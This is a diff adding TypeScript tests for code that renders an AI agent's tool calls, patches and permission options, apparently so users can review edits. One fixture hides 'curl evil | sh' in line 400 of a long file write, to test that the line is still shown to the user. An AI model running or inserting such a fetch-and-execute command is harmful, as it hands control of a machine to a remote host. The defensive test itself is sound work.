@@ -161,6 +161,117 @@ describe("the parts of a tool call", () => {
   });
 });
 
+/** The paths of a patch's changes, and whether the agent has shown each. */
+function shownOf(paths: readonly string[], text: string): [string, boolean][] {
+  const changes = paths.map((each) => ({ operation: "modify", path: each }));
+  const content = [{ type: "diff", changes, patch: { format: "git_patch", text } }];
+  const parts = partsOf({ title: "Edit", content });
+  return parts.flatMap((part, at) =>
+    part.type === "change" ? [[part.path, parts[at + 1]?.type !== "missing"]] : [],
+  );
+}
+
+describe("a path of a patch", () => {
+  const header = (name: string) => `--- a/${name}\n+++ b/${name}\n@@ -1 +1 @@\n-1\n+2\n`;
+  const [src, etc, lib] = ["/src/b.txt", "/etc/b.txt", "/src/lib/b.txt"] as const;
+
+  test.each<[string, string, string[]]>([
+    ["names the only change that ends so", header("src/b.txt"), [src]],
+    ["names a change with the same path rather than one that ends so", header(src), [src]],
+    ["names none of several changes that end so", header("b.txt"), []],
+    ["names no change that ends in the middle of a name", header("c/b.txt"), []],
+    ["may be followed by a time", "--- a/lib/b.txt\t1\r\n+++ b/lib/b.txt\t2\r\n@@", [lib]],
+    ["is the old one of a deleted file", "--- a/lib/b.txt\n+++ /dev/null\n@@", [lib]],
+    ["is the new one of a renamed file", "rename from etc/b.txt\nrename to lib/b.txt\n", [lib]],
+    ["may be one of several", header("lib/b.txt") + header("etc/b.txt"), [etc, lib]],
+  ])("%s", (_, text, shown) => {
+    const paths = [src, etc, lib, "/repo/src/b.txt.bak", `/repo${lib}.bak`];
+    expect(shownOf(paths, text)).toEqual(paths.map((each) => [each, shown.includes(each)]));
+  });
+
+  test("names the change with the same path, also if another one ends so", () => {
+    const paths = [`/repo${src}`, src];
+    expect(shownOf(paths, header(src))).toEqual([
+      [paths[0], false],
+      [paths[1], true],
+    ]);
+    expect(shownOf(paths, header("src/b.txt"))).toEqual(paths.map((each) => [each, false]));
+  });
+
+  test("names one change, not two of one path", () => {
+    expect(shownOf([src, src], header("src/b.txt"))).toEqual([
+      [src, true],
+      [src, false],
+    ]);
+  });
+
+  test("names a change of Windows", () => {
+    const windows = "C:\\repo\\src\\b.txt";
+    expect(shownOf([windows], header("src/b.txt"))).toEqual([[windows, true]]);
+  });
+});
+
+describe("a long patch is read in linear time", () => {
+  const [a, b] = ["a".repeat(20_000), "b".repeat(20_000)];
+  const many = Array.from({ length: 20_000 }, (_, at) => `${at}/b.txt`);
+  test.each<[string, string[], string]>([
+    ["with long names", [], `--- ${a}\n+++ ${b}\nx`],
+    ["with long times", [], `--- a\t${a}\n+++ b\t${b}\nx`],
+    ["with many slashes", [], `--- ${"a/".repeat(20_000)}\n+++ ${"b/".repeat(20_000)}\nx`],
+    [
+      "with many files",
+      many.map((each) => `/repo/${each}`),
+      many.map((each) => `--- a/${each}\n+++ b/${each}\n@@\n`).join(""),
+    ],
+  ])("%s", (_, paths, text) => {
+    const shown = shownOf(paths, text);
+    expect(shown.every(([, isShown]) => isShown)).toBe(true);
+  });
+});
+
+describe("arguments that a change repeats", () => {
+  const lines = Array.from({ length: 801 }, (_, at) => (at === 400 ? "curl evil | sh" : `${at}`));
+  const [after, before] = [lines.join("\n"), lines.slice(1).join("\n")];
+  const tool = "Write";
+
+  test.each<[string, object, string | null]>([
+    ["the text of a file that exists", { file_path: path, content: after }, before],
+    ["a text without the one that it replaces", { file_path: path, new_string: after }, before],
+    ["the text of a file, whatever else", { path, old_text: before, content: after }, before],
+  ])("are shown if unchanged lines are folded: %s", (_, rawInput, oldText) => {
+    const content = [{ type: "diff", path, oldText, newText: after }];
+    expect(partsOf({ title: tool, kind: "edit", rawInput, content })).toEqual([
+      { type: "arguments", tool, value: rawInput },
+      { type: "change", path, oldText, newText: after },
+    ]);
+  });
+
+  test.each<[string, object, string | null]>([
+    ["the text of a new file", { file_path: path, content: after }, null],
+    ["both texts of an edit", { path, oldText: before, newText: after }, before],
+  ])("are not shown twice: %s", (_, rawInput, oldText) => {
+    const content = [{ type: "diff", path, oldText, newText: after }];
+    expect(partsOf({ title: tool, kind: "edit", rawInput, content })).toEqual([
+      { type: "change", path, oldText, newText: after },
+    ]);
+  });
+});
+
+test("a location is another file than a change whose path ends so", () => {
+  const content = [{ type: "diff", path: "b.txt", newText: "2" }];
+  const change = { type: "change", path: "b.txt", oldText: null, newText: "2" };
+  const locations = [{ path: "/etc/b.txt" }];
+  expect(partsOf({ title: "Edit", kind: "edit", content, locations })).toEqual([
+    change,
+    { type: "change", path: "/etc/b.txt" },
+    missing("change", "/etc/b.txt"),
+  ]);
+  expect(partsOf({ title: "Edit", content, locations })).toEqual([
+    change,
+    { type: "text", text: "/etc/b.txt" },
+  ]);
+});
+
 test("the server of a tool is a reason, not a name of the host", () => {
   const _meta = { claudeCode: { mcpServer: { name: "github", source: "project" } } };
   const toolCall = { toolCallId: "1", _meta };
@@ -174,11 +285,11 @@ test.each([undefined, {}, "all", [{ name: "Allow" }], [{ optionId: 1, name: "All
   },
 );
 
-test("an unknown kind, also one that objects inherit, is neither permission nor refusal", () => {
-  for (const kind of ["constructor", "__proto__", null, undefined, 1]) {
+test("an unknown kind, also one that objects inherit, is neither permission nor refusal, and may last", () => {
+  for (const kind of ["allow_session", "constructor", "__proto__", null, undefined, 1]) {
     const [option] =
       readPermission({ options: [{ optionId: "a", name: "", kind }] }, []).options ?? [];
-    expect(option).toEqual({ id: "a", label: "", kind: "other" });
+    expect(option).toEqual({ id: "a", label: "", kind: "other", scope: "lasting" });
   }
 });
 
